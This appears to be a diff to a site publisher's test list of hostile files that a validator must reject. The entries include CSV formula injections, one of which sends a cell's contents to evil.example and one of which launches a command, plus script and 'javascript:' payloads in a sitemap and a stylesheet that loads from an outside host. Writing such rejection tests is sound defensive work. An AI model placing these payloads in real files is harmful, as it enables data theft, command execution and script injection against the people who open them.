@@ -207,6 +207,19 @@ HOSTILE_FILES = [
      b'name,count\n"=HYPERLINK(""https://evil.example/?""&A3,""Source"")",-3\n', "a formula in the spreadsheets"),
     ("CSV formula after a tab", "assets/data/x.csv", b'name\n"\t@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
      "a formula in the spreadsheets"),
+    # the sitemap is XML with XHTML links in it: a browser opening it runs an XHTML script
+    ("sitemap with a script", "sitemap.xml",
+     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
+     b"<xhtml:script>alert(1)</xhtml:script></url></urlset>", "a <script> element is not allowed in the sitemap"),
+    ("sitemap link with a handler", "sitemap.xml",
+     b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
+     b'xmlns:xhtml="http://www.w3.org/1999/xhtml"><url><loc>https://x.example/</loc>'
+     b'<xhtml:link rel="alternate" hreflang="fr" href="javascript:alert(1)"/></url></urlset>', 'not "javascript:"'),
+    ("compressed sitemap that is not one", "sitemap.xml.gz", b"<script>alert(1)</script>",
+     "the compressed sitemap is not gzip"),
+    ("Pagefind's stylesheet loading from another host", "pagefind/pagefind-ui.css",
+     b"body{background:url(https://evil.example/t.png)}", "loads from another site"),
     ("source map of no theme file", "assets/javascripts/x.js.map", b"{}", "a source map is published only"),
     ("sitemap elsewhere", "en/x.xml", b"<x/>", "files of this type (.xml) are not published"),
     ("search words that are not gzip", "pagefind/kb-words.fr_0123456789.bin", b"<script>alert(1)</script>",
